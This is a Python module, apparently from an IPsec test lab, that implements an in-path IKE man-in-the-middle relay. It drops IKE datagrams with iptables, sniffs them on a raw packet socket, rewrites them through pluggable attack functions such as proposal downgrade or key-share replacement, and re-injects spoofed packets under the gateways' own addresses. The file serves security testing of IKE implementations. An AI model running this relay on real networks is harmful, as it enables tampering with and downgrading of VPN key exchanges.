"""mallory rewrites IKE in flight, run inside mallory's namespace (never in the machine's own).

    python -m ipseclab.attacks.ike_relay GW1 GW2 SECONDS REWRITE

mallory is the router between the gateways GW1 and GW2. The relay

1. adds two iptables rules to mallory's own FORWARD chain that drop the UDP 500/4500
   datagrams between GW1 and GW2 (mallory's namespace only: they vanish with it, and the
   relay deletes them again when it ends);
2. reads those datagrams on an AF_PACKET socket, which sees every frame as it arrives,
   before the router's FORWARD chain drops it;
3. hands each IKE message to the rewrite function and sends what it returns as a new IPv4
   packet through a raw socket (IP_HDRINCL) with the *original* source address and ports,
   so each gateway still sees its peer's address: nothing tells it that mallory touched
   the message (IKE_SA_INIT has no integrity protection, RFC 7296 §2.15 only binds it to
   AUTH later).

REWRITE names a rewrite function of an attack module, ``MODULE:FUNCTION`` (the function is
the rewrite) or ``MODULE:FACTORY:INT`` (``FACTORY(INT)`` returns it), for example
``downgrade:strip_first_proposal`` or ``unchecked_dh:replace_key_share:1``. A rewrite takes
``(message, sender)`` with sender ``gw1`` or ``gw2`` and returns a list: bytes are delivered
to the other gateway, ``("reply", bytes)`` goes back to the sender as if from its peer.
ESP in UDP (4500 without the non-ESP marker) passes unchanged.

It forwards only what arrives, at most MAX_DATAGRAMS, and stops after SECONDS or on SIGTERM.
It prints ``ready`` and then one JSON line: every datagram, as received and as sent.
"""

from __future__ import annotations

import importlib
import ipaddress
import os
import select
import socket
import struct
import subprocess
import time
from collections.abc import Callable
from typing import Any

from ipseclab.attacks._tool import fail, ready, run, serve
from ipseclab.attacks.inet import ones_sum, rebuild_ipv4
from ipseclab.ipsec.udpencap import NON_ESP_MARKER  # RFC 3948 §2.2

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
IKE_PORTS = (500, 4500)
MAX_DATAGRAMS = 64
Rewrite = Callable[[bytes, str], list]


def load_rewrite(spec: str) -> Rewrite:
    """``MODULE:FUNCTION`` or ``MODULE:FACTORY:INT`` of ``ipseclab.attacks``."""
    parts = spec.split(":")
    if len(parts) not in (2, 3) or not all(p.isidentifier() for p in parts[:2]):
        raise ValueError(f"rewrite must be MODULE:FUNCTION[:INT], not {spec!r}")
    module = importlib.import_module(f"ipseclab.attacks.{parts[0]}")
    function = getattr(module, parts[1])
    return function(int(parts[2], 0)) if len(parts) == 3 else function


def udp_ipv4(src: str, dst: str, sport: int, dport: int, data: bytes, ttl: int) -> bytes:
    """A whole IPv4/UDP packet with both checksums right (RFC 768 pseudo-header)."""
    s, d = ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed
    length = 8 + len(data)
    pseudo = s + d + struct.pack("!BBH", 0, 17, length)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    check = ~ones_sum(pseudo + header + data) & 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, length, check or 0xFFFF) + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, int.from_bytes(os.urandom(2), "big"), 0,
                     ttl, 17, 0, s, d)
    return rebuild_ipv4(ip, udp)


def _rules(gw1: str, gw2: str) -> list[list[str]]:
    return [["FORWARD", "-p", "udp", "-s", a, "-d", b, "-m", "multiport", "--ports",
             ",".join(map(str, IKE_PORTS)), "-j", "DROP"] for a, b in ((gw1, gw2), (gw2, gw1))]


def relay(gw1: str, gw2: str, seconds: float, rewrite: Rewrite) -> None:
    names = {gw1: "gw1", gw2: "gw2"}
    peer = {gw1: gw2, gw2: gw1}
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    added: list[list[str]] = []
    start = time.monotonic()
    try:
        for rule in _rules(gw1, gw2):
            subprocess.run(["iptables", "-I", *rule], check=True, capture_output=True)
            added.append(rule)

        def send(packet: bytes) -> None:
            raw.sendto(packet, (str(ipaddress.IPv4Address(packet[16:20])), 0))

        def work(result: dict[str, Any]) -> None:
            log: list[dict[str, Any]] = result.setdefault("datagrams", [])
            errors: list[str] = result.setdefault("errors", [])
            ready()
            while len(log) < MAX_DATAGRAMS:
                left = start + seconds - time.monotonic()
                if left <= 0 or not select.select([sniff], [], [], left)[0]:
                    break
                frame, addr = sniff.recvfrom(65535)
                if addr[2] == PACKET_OUTGOING or len(frame) < 28 or frame[9] != 17:
                    continue
                ihl = (frame[0] & 0x0F) * 4
                src = str(ipaddress.IPv4Address(frame[12:16]))
                dst = str(ipaddress.IPv4Address(frame[16:20]))
                if peer.get(src) != dst:
                    continue
                sport, dport, length = struct.unpack_from("!HHH", frame, ihl)
                if sport not in IKE_PORTS and dport not in IKE_PORTS:
                    continue
                payload = frame[ihl + 8:ihl + length]
                ttl = max(1, frame[8] - 1)
                marker = b""
                if 4500 in (sport, dport):
                    if not payload.startswith(NON_ESP_MARKER):  # ESP in UDP: pass it on
                        send(udp_ipv4(src, dst, sport, dport, payload, ttl))
                        continue
                    marker, payload = NON_ESP_MARKER, payload[4:]
                try:
                    out = rewrite(payload, names[src])
                except Exception as exc:  # a message the rewrite cannot parse: pass it on
                    errors.append(f"{type(exc).__name__}: {exc}")
                    out = [payload]
                entry: dict[str, Any] = {"from": names[src], "received": payload.hex(),
                                         "sent": [], "replied": []}
                for item in out:
                    if isinstance(item, tuple):  # mallory answers the sender as its peer
                        send(udp_ipv4(dst, src, dport, sport, marker + item[1], 64))
                        entry["replied"].append(item[1].hex())
                    else:
                        send(udp_ipv4(src, dst, sport, dport, marker + item, ttl))
                        entry["sent"].append(item.hex())
                log.append(entry)

        serve(work, start)
    finally:
        for rule in added:
            subprocess.run(["iptables", "-D", *rule], check=False, capture_output=True)
        sniff.close()
        raw.close()


def main(argv: list[str]) -> None:
    if len(argv) != 4:
        fail(__doc__ or "")
    try:
        rewrite = load_rewrite(argv[3])
    except (ValueError, ImportError, AttributeError) as exc:
        fail(f"ike_relay: {exc}")
        return
    relay(argv[0], argv[1], float(argv[2]), rewrite)


if __name__ == "__main__":
    run(main, __doc__ or "")
